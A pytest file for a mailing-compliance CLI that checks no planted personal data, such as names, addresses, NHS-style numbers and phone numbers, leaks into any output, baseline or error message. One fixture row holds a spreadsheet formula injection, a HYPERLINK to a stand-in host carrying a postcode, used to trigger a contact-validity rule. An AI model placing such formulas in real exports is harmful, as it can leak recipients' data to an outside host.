"""No personal data leaks: plant distinctive personal values in a register and a
batch that sets off every rule, run every command and every output format, and
assert none of the plain values appears anywhere unless --show-values."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from policylint.cli import cli
from policylint.plugins import reporter_registry, rule_registry

TODAY = "2026-11-26"
# Values no rule doc, template or message could contain by chance.
PLANTED = [
    "Zephyrine", "Quillfeather", "Barnaby", "Throckmorton", "Cuthbert", "Vandersloot",
    "Ottoline", "Featherstonehaugh", "Grimblethorpe",
    "Wispering Gardens", "Orchard Mews", "Larkspur Close", "Brindle Row", "Lowmarsh",
    "PE99 7ZZ", "PE99 7", "PE997ZZ", "PE98 2QX", "PE97 3AB", "PE96 4CD",
    "zephyrine.quillfeather@", "zq.old@", "b.throckmorton@", "quillfeather@@",
    "900771", "900772", "900773", "900774", "7700900771",
    "1977-03-09", "09/03/1977", "CT-77123456", "CT-77123457", "£1,234.56",
    # Recipient and subject ids: an internal tenancy key and an NHS number.
    "TNC-718203", "TNC-718204", "TNC-718206", "485 777 3007", "4857773007",
    "CT-77123458", "CT-77123459", "CT-77123460", "CT-77123461",
]

PEOPLE = """person_id,title,given_name,family_name,date_of_birth,status,flags
TNC-718203,Mrs,Zephyrine,Quillfeather,1977-03-09,active,
TNC-718204,Mr,Barnaby,Throckmorton,1981-06-14,active,
485 777 3007,Mr,Cuthbert,Vandersloot,1979-12-01,active,
TNC-718206,Ms,Ottoline,Featherstonehaugh,1990-02-20,active,no_voicemail;post_only
"""
ADDRESSES = """person_id,line_1,line_2,line_3,line_4,line_5,line_6,postcode,status,\
valid_from,valid_to,verified_on
TNC-718203,17 Wispering Gardens,Lowmarsh,,,,,PE99 7ZZ,current,2025-01-10,,2026-10-01
TNC-718203,4 Orchard Mews,Lowmarsh,,,,,PE98 2QX,previous,2015-01-01,2025-01-09,2024-06-01
TNC-718204,22 Larkspur Close,Lowmarsh,,,,,PE97 3AB,current,2026-03-01,,2026-09-01
485 777 3007,9 Brindle Row,Lowmarsh,,,,,PE96 4CD,current,2010-01-01,,2026-09-01
TNC-718206,3 Brindle Row,Lowmarsh,,,,,PE96 4CD,current,2010-01-01,,2026-09-01
"""
CONTACTS = """person_id,kind,value,status,verified_on
TNC-718203,email,zephyrine.quillfeather@leaktest.example,current,2026-10-01
TNC-718203,email,zq.old@leaktest.example,previous,2024-01-01
TNC-718203,phone,07700 900771,current,2026-10-01
TNC-718204,phone,07700 900772,current,2026-10-01
TNC-718204,email,b.throckmorton@leaktest.example,current,2026-10-01
485 777 3007,phone,07700 900773,current,2026-10-01
TNC-718206,phone,07700 900774,current,2026-10-01
"""
RESTRICTIONS = """person_id,kind,other_person_id,note
TNC-718204,confidential_address,,fled
TNC-718204,do_not_disclose_to,485 777 3007,ex-partner
"""
REPRESENTATIVES = "person_id,representative_id,scope,valid_to\n"

HEADER = ("recipient_id,subject_id,title,first_name,last_name,address_line_1,address_line_2,"
          "address_line_3,postcode,email,phone,channel,template,account_ref,amount_due,"
          "subject_address,note")
ROWS = [
    # stale-address: a letter to the previous address
    "TNC-718203,TNC-718203,Mrs,Zephyrine,Quillfeather,Mrs Z Quillfeather,"
    "4 Orchard Mews,Lowmarsh,PE98 2QX,,,"
    "letter,letter,CT-77123456,\"£1,234.56\",,",
    # stale-contact: an email to the previous email address
    "TNC-718203,TNC-718203,Mrs,Zephyrine,Quillfeather,,,,,zq.old@leaktest.example,,"
    "email,email,CT-77123457,"
    "\"£1,234.56\",,",
    # protected-address: the victim's address in a letter to her ex-partner
    "485 777 3007,TNC-718204,Mr,Cuthbert,Vandersloot,Mr C Vandersloot,9 Brindle Row,"
    "Lowmarsh,PE96 4CD,,,letter,"
    "letter,CT-77123458,£10.00,\"22 Larkspur Close, Lowmarsh, PE97 3AB\",",
    # voicemail-content and handling-flags: surname, amount, arrears, no_voicemail, post_only
    "TNC-718206,TNC-718206,Ms,Ottoline,Featherstonehaugh,,,,,,07700 900774,voicemail,"
    "voicemail,CT-77123459,"
    "\"£1,234.56\",,",
    # recipient-mismatch: a name the register does not hold
    "TNC-718203,TNC-718203,Mrs,Zephyrine,Grimblethorpe,Mrs Z Grimblethorpe,"
    "17 Wispering Gardens,Lowmarsh,"
    "PE99 7ZZ,,,letter,letter,CT-77123460,£5.00,,",
    # contact-validity: an invalid email, a formula
    "TNC-718203,TNC-718203,Mrs,Zephyrine,Quillfeather,,,,,quillfeather@@leaktest,,"
    "email,email,CT-77123461,"
    "£5.00,,\"=HYPERLINK(\"\"http://x.example/?PE99 7ZZ\"\")\"",
]
TEMPLATES = {
    "letter.j2": "---\nname: letter\nchannel: letter\n---\nDear {{ title }} {{ last_name }},\n"
                 "Account {{ account_ref }}: {{ amount_due }} is due. {{ subject_address }}\n",
    "email.j2": "---\nname: email\nchannel: email\n---\nDear {{ first_name }} {{ last_name }},\n"
                "You owe {{ amount_due }}.\n",
    "voicemail.j2": "---\nname: voicemail\nchannel: voicemail\n---\nHello {{ first_name }} "
                    "{{ last_name }}, you owe {{ amount_due }} in arrears.\n",
}


@pytest.fixture
def mailing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    register = tmp_path / "register"
    register.mkdir()
    for name, text in (("people", PEOPLE), ("addresses", ADDRESSES), ("contacts", CONTACTS),
                       ("restrictions", RESTRICTIONS), ("representatives", REPRESENTATIVES)):
        (register / f"{name}.csv").write_text(text, encoding="utf-8")
    (tmp_path / "templates").mkdir()
    for name, text in TEMPLATES.items():
        (tmp_path / "templates" / name).write_text(text, encoding="utf-8")
    (tmp_path / "batch.csv").write_text(HEADER + "\n" + "\n".join(ROWS) + "\n", encoding="utf-8")
    (tmp_path / "policylint.yaml").write_text(
        "version: 1\nextends: [uk-local-gov]\nregister: ./register\n"
        "fields: {reference: [account_ref]}\ntemplates:\n  - {path: templates/*.j2}\n"
        "rules:\n  contact-validity: {allow_drama_numbers: true}\n"
        # redaction-residue: the subject's address in the ex-partner's letter (row 3);
        # secure-delivery: emails that must go to a secure domain (rows 2 and 6).
        "  redaction-residue: {redact: [{templates: [letter], subject: [address]}]}\n"
        "  secure-delivery: {secure_domains: [gov.uk], secure_templates: [email]}\n",
        encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def leaks(text: str) -> list[str]:
    lowered = text.lower()
    found = [value for value in PLANTED if value.lower() in lowered]
    digits = re.sub(r"\D", "", text)
    found += [f"phone {p}" for p in ("7700900771", "7700900772", "7700900773", "7700900774")
              if p in digits]
    return found


def outputs(result: Result, *files: Path) -> Iterator[str]:
    yield result.output
    for path in files:
        if path.exists():
            yield path.read_text(encoding="utf-8")


def test_the_batch_sets_off_every_rule(mailing: Path) -> None:
    """The leak test is only worth something if every rule reports on planted data."""
    import json

    result = run("check", "batch.csv", "--format", "json", "--today", TODAY)
    assert result.exit_code == 1, result.output
    fired = {f["rule"] for f in json.loads(result.output)["findings"]}
    builtin = {name for name, entry in rule_registry().items() if entry.plugin == "policylint"}
    assert builtin <= fired, builtin - fired


@pytest.mark.parametrize("fmt", sorted(reporter_registry()))
def test_check_masks_every_format(mailing: Path, fmt: str) -> None:
    stdout = run("check", "batch.csv", "--format", fmt, "--today", TODAY)
    assert stdout.exit_code == 1
    assert leaks(stdout.output) == []
    to_file = run("check", "batch.csv", "--format", fmt, "--today", TODAY, "-o", "report.out")
    assert to_file.exit_code == 1
    for text in outputs(to_file, mailing / "report.out"):
        assert leaks(text) == []


@pytest.mark.parametrize("fmt", sorted(reporter_registry()))
def test_show_values_lifts_the_mask(mailing: Path, fmt: str) -> None:
    result = run("check", "batch.csv", "--format", fmt, "--today", TODAY, "--show-values")
    assert "Quillfeather" in result.output or "Featherstonehaugh" in result.output


def test_baseline_holds_hashes_only(mailing: Path) -> None:
    result = run("check", "batch.csv", "--today", TODAY, "--write-baseline", "baseline.json")
    assert result.exit_code == 0
    text = (mailing / "baseline.json").read_text(encoding="utf-8")
    assert leaks(text) == [] and "TNC-718203" not in text


def test_lint_rules_explain_and_init_print_no_planted_values(mailing: Path) -> None:
    texts = [run("lint", *(str(p) for p in (mailing / "templates").iterdir())).output,
             run("rules").output, run("rules", "--format", "json").output]
    texts += [run("explain", name).output for name in rule_registry()]
    init = run("init", "--path", "starter.yaml")
    texts += list(outputs(init, mailing / "starter.yaml"))
    for text in texts:
        assert leaks(text) == []


def test_register_commands_print_no_planted_values(mailing: Path) -> None:
    # Two current addresses and a shared contact give register check something to say.
    with (mailing / "register" / "addresses.csv").open("a", encoding="utf-8") as out:
        out.write("TNC-718203,5 Wispering Gardens,Lowmarsh,,,,,PE99 7ZZ,current,2026-01-01,,"
                  "2026-10-01\n")
    with (mailing / "register" / "contacts.csv").open("a", encoding="utf-8") as out:
        out.write("485 777 3007,phone,07700 900772,current,2026-10-01\n")
    check = run("register", "check", "register", "--today", TODAY)
    assert check.exit_code == 1 and "multiple-current-addresses" in check.output
    build = run("register", "build", "register", "-o", "register.sqlite")
    assert build.exit_code == 0
    for text in (check.output, build.output):
        assert leaks(text) == []


@pytest.mark.parametrize(("name", "mangle"), [
    ("ragged row", lambda rows: [*rows[:2], rows[2] + ",Throckmorton,PE97 3AB", *rows[3:]]),
    ("NUL byte", lambda rows: [rows[0].replace("Quillfeather", "Quill\x00feather"), *rows[1:]]),
    ("unterminated quote", lambda rows: [*rows, 'P-9,P-9,Mr,"Barnaby,Throckmorton,PE97 3AB']),
])
def test_bad_rows_are_reported_without_their_values(mailing: Path, name: str,
                                                    mangle: object) -> None:
    rows = mangle(ROWS)  # type: ignore[operator]
    (mailing / "bad.csv").write_text(HEADER + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    result = run("check", "bad.csv", "--today", TODAY)
    assert result.exit_code == 2, name
    assert leaks(result.output) == [], name


def test_bad_register_rows_are_reported_without_their_values(mailing: Path) -> None:
    (mailing / "register" / "people.csv").write_text(
        PEOPLE + "P-5,Mr,Barnaby,Throckmorton,Throckmorton 1977-03-09,active,\n",
        encoding="utf-8")
    result = run("check", "batch.csv", "--today", TODAY)
    assert result.exit_code == 2
    assert "people.csv" in result.output and leaks(result.output) == []
